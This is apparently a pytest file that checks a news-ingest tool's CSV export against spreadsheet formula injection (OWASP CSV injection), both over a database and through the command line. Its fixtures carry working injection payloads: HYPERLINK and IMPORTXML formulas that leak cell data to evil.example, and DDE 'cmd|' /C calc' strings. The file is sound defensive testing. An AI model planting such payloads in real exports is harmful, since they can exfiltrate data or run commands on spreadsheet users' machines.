"""CSV export: no cell a spreadsheet would run as a formula (OWASP CSV injection),
over a real database, and the text still reads as it was stored."""
from __future__ import annotations

import csv
import io
import subprocess
import sys

import pytest

from storyline.ingest.readers import from_record
from storyline.service import FORMULA_STARTS, Storyline, csv_cell

HOSTILE = [
    {"id": "=1+1", "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
     "source": "@SUM(1+1)*cmd|' /C calc'!A0", "url": "https://news.example/a",
     "text": "-2+3+cmd|' /C calc'!A0 is what the attacker wrote at the start of this report "
             "about the council meeting, which approved the library budget on Monday."},
    {"id": "plus", "title": "+44 20 7946 0000 is the newsroom's number", "source": "news.example.com",
     "url": "https://news.example/b",
     "text": "=IMPORTXML(CONCAT(\"http://evil.example/?\",A2),\"//a\") opens this second report, "
             "on the harbour's new ferry timetable published on Tuesday by the port authority."},
    {"id": "plain", "title": "Harbour ferry timetable changes", "source": "news.example.com",
     "url": "https://news.example/c",
     "text": "The port authority changed the ferry timetable on Tuesday; boats now leave every "
             "forty minutes. The mayor - who uses the ferry - welcomed the change."},
]


def test_csv_cells_never_start_a_formula_and_keep_their_text(tmp_path):
    app = Storyline(str(tmp_path / "x.db"))
    try:
        report = app.ingest([from_record(r, f"=origin|{r['id']}") for r in HOSTILE], relink=False)
        assert len(report.added) == len(HOSTILE), report.as_dict()
        stored = {a.external_id: a for a in app.store.articles()}
        out = io.StringIO()
        assert app.export("csv", out) == len(HOSTILE)
    finally:
        app.close()
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert len(rows) == len(HOSTILE)
    hostile_cells = 0
    for row in rows:
        a = stored[row["external_id"].removeprefix("'")]
        for field, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), (field, cell)
            value = getattr(a, field)
            if isinstance(value, str) and value.startswith(FORMULA_STARTS):
                hostile_cells += 1
                assert cell == "'" + value  # one apostrophe in front, nothing else changed
            elif isinstance(value, str):
                assert cell == value
    assert hostile_cells >= 7  # titles, sources, texts, ids and origins that began with =, +, -, @
    assert "The mayor - who uses the ferry - welcomed" in out.getvalue()  # inner dashes untouched


@pytest.mark.parametrize("value,expected", [
    ("=cmd", "'=cmd"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("a=b", "a=b"), ("", ""), (" =x", " =x"), (5, 5), (None, None), (-3, -3)])
def test_csv_cell(value, expected):
    assert csv_cell(value) == expected


def test_export_from_the_command_line_is_neutralised(tmp_path):
    db = str(tmp_path / "cli.db")
    app = Storyline(db)
    app.ingest([from_record(HOSTILE[0], "test:cli")], relink=False)
    app.close()
    out = tmp_path / "out.csv"
    subprocess.run([sys.executable, "-m", "storyline.cli", "--db", db, "export", "--format", "csv",
                    "-o", str(out)], check=True, capture_output=True, timeout=300)
    (row,) = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert row["title"].startswith("'=HYPERLINK(") and row["source"].startswith("'@SUM(")
